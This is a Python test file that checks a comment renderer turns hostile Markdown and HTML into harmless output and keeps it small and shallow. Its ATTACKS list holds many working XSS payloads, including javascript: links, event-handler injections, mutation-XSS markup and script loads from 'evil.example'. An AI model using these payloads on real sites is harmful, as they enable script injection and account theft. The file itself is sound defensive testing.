"""Hostile comments: whatever is sent, the page holds our few tags and links to the web, and few of them."""

import re

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

import lib.markup
from lib.markdown import MAX_NESTING
from lib.markup import COMMENT_TAGS, MAX_SOURCE, render_comment
from lib.text import CONTROLS
from tests.lib.html_tree import elements_of

ATTACKS = [
    # links to scripts, in every spelling
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](  javascript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;avascript&colon;alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](javascript&NewLine;:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](%6Aavascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](\\javascript:alert(1))",
    "[a](javascript://a.example/%0Aalert(1))",
    "[a](http:javascript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](data:image/svg+xml,<svg onload=alert(1)>)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://a.example/1)",
    "[a](feed:javascript:alert(1))",
    "[a](view-source:https://a.example)",
    "[a](mailto:a@b.example)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[a]: javascript:alert(1)\n\n[a]",
    "![a](javascript:alert(1))",
    '![a](x "onerror=alert(1)")',
    # breaking out of an attribute
    '[a](https://a.example/"onmouseover="alert(1))',
    "[a](https://a.example/'onmouseover='alert(1))",
    '[a](https://a.example "x\\" onclick=\\"alert(1)")',
    '<https://a.example/"onclick="alert(1)>',
    'https://a.example/"><script>alert(1)</script>',
    "https://a.example/`onclick=alert(1)`",
    "[a](https://a.example/><img src=x onerror=alert(1)>)",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    # raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=/desk/><button>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<p style=position:fixed onclick=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id') ?>",
    "</p></div></article><script>alert(1)</script>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    # entities
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&lt;img src=x onerror=alert(1)>",
    "&#0;&#xD800;&#x110000;&#9999999;",
    # code is text too
    "`<script>alert(1)</script>`",
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    "```\n&lt;script&gt;</code><img src=x onerror=alert(1)>\n```",
    '``` " onclick="alert(1)\nx\n```',
    "    </pre><script>alert(1)</script>",
    # mutation: markup that a browser reads differently the second time
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style>",
    "<select><template><style><!--</style><a rel='--><img src onerror=alert(1)>'>",
    "<textarea></p><a title='</textarea><img src onerror=alert(1)>'>",
    "<xmp><p id='</xmp><img src=x onerror=alert(1)>'>",
    "**<b\n**onclick=alert(1)>",
    "- <ul>\n  - </ul><script>alert(1)</script>",
    "> </blockquote><script>alert(1)</script>",
]
TURNED_AROUND = [
    "&#8238;gpj.exe",
    "&#x2066;a&#x2069;",
    "[a&#x202e;](https://a.example/&#x202e;)",
    "&#xfeff;&#x85;",
]


def assert_harmless(html: str) -> None:
    """Only our tags, only `href` to the web and `rel`, no controls, and nothing left for nh3 to clean."""
    for tag, attributes in elements_of(html):
        assert tag in COMMENT_TAGS
        assert set(attributes) <= ({"href", "rel"} if tag == "a" else set())
        assert attributes.get("href", "https://").startswith(("http://", "https://"))
        assert tag != "a" or attributes["rel"] == "nofollow ugc noopener"
    assert not CONTROLS.search(html)
    assert lib.markup._clean_comment(html) == html
    assert nh3.clean(html, attributes={"a": {"href"}}, link_rel="nofollow ugc noopener") == html


@pytest.mark.parametrize("source", ATTACKS + TURNED_AROUND)
def test_attack_comes_out_harmless(source):
    assert_harmless(render_comment(source))


@pytest.mark.parametrize("source", ATTACKS)
def test_attack_inside_other_markup_comes_out_harmless(source):
    quoted = "\n".join(f"> - {line}" for line in source.split("\n"))
    assert_harmless(render_comment(f"{quoted}\n\n**{source}** [{source}](https://a.example) `{source}`"))


@pytest.mark.parametrize("source", ATTACKS)
def test_cleaners_hold_even_if_the_parser_lets_html_through(source, monkeypatch):
    """Both gates stand on their own: a hole in the Markdown parser is not a hole in the page."""
    monkeypatch.setattr(lib.markup, "html_from_markdown", lambda source: source)
    assert_harmless(render_comment(source))


@pytest.mark.parametrize("source", ATTACKS)
def test_last_gate_holds_alone(source, monkeypatch):
    monkeypatch.setattr(lib.markup, "html_from_markdown", lambda source: source)
    monkeypatch.setattr(lib.markup.bleach, "clean", lambda html, **rules: html)
    assert_harmless(render_comment(source))


@given(st.text(st.characters()))
def test_any_text_comes_out_harmless(source):
    assert_harmless(render_comment(source))


FRAGMENTS = [
    "[",
    "](",
    ")",
    "<",
    ">",
    "*",
    "**",
    "_",
    "`",
    "```",
    "\n",
    "\n\n",
    "- ",
    "1. ",
    "> ",
    "    ",
    "\\",
    "&",
    "#",
    ";",
]
FRAGMENTS += [
    "javascript:",
    "https://a.example",
    "http:",
    "//",
    '"',
    "'",
    "!",
    "a",
    "&#x6a;",
    "&lt;",
    "<a href=",
    "<p ",
    "-->",
]
FRAGMENTS += ["<script>", "\x00", "\u202e", "\r", "\t", "="]


@given(st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join))
def test_any_mixture_of_markup_comes_out_harmless(source):
    assert_harmless(render_comment(source))


# ---------- bounded work ----------
def test_text_at_the_limit_is_rendered():
    assert "a" * MAX_SOURCE in render_comment("a" * MAX_SOURCE)


def test_text_over_the_limit_is_refused_before_it_is_parsed(monkeypatch):
    monkeypatch.setattr(lib.markup, "html_from_markdown", lambda source: pytest.fail("it was parsed"))
    with pytest.raises(ValueError, match="at most 10000"):
        render_comment("a" * (MAX_SOURCE + 1))


FLOODS = [
    *'>[]*_`"<&\\-+#~!(\t\n',
    "**",
    "[a](",
    "![",
    "[](",
    "- ",
    "1. ",
    "-\n",
    "- a\n",
    "> a\n",
    "&#",
    "*a_ ",
    "`a` ",
]
FLOODS += [
    "```\n",
    "a\n",
    "http://a ",
    "<http://a>",
    "://",
    "a://b",
    "http://.",
    "[a](http://a)",
    "<b>",
    "<!--",
    "[![",
    "&quot;",
]


@pytest.mark.parametrize("piece", FLOODS)
def test_flood_of_one_piece_stays_small_and_shallow(piece):
    """The longest comment of nothing else gives at most a few characters of HTML for each of its own."""
    source = (piece * MAX_SOURCE)[:MAX_SOURCE]
    html = render_comment(source)
    assert_small_and_shallow(html)


@pytest.mark.parametrize(
    "source",
    [
        "".join("  " * level + "- a\n" for level in range(95)),
        "".join(">" * level + " a\n" for level in range(135)),
        "[" * 5_000 + "]" * 5_000,
        "*a **b " * 700 + "c** d* " * 700,
        "".join("`" * count + " " for count in range(1, 140)),
        "<div>" * 2_000,
    ],
    ids=["lists", "quotes", "brackets", "stars", "backticks", "tags"],
)
def test_nested_flood_stays_small_and_shallow(source):
    html = render_comment(source[:MAX_SOURCE])
    assert_small_and_shallow(html)


def assert_small_and_shallow(html: str) -> None:
    """Blocks to the limit, emphasis to the limit, and around both a paragraph, a list and a link."""
    assert len(html) <= 7 * MAX_SOURCE
    depth = deepest = 0
    for close, tag in re.findall(r"<(/?)(?!br>)([a-z]+)", html):
        assert tag in COMMENT_TAGS
        depth += -1 if close else 1
        deepest = max(deepest, depth)
    assert deepest <= 2 * MAX_NESTING + 3
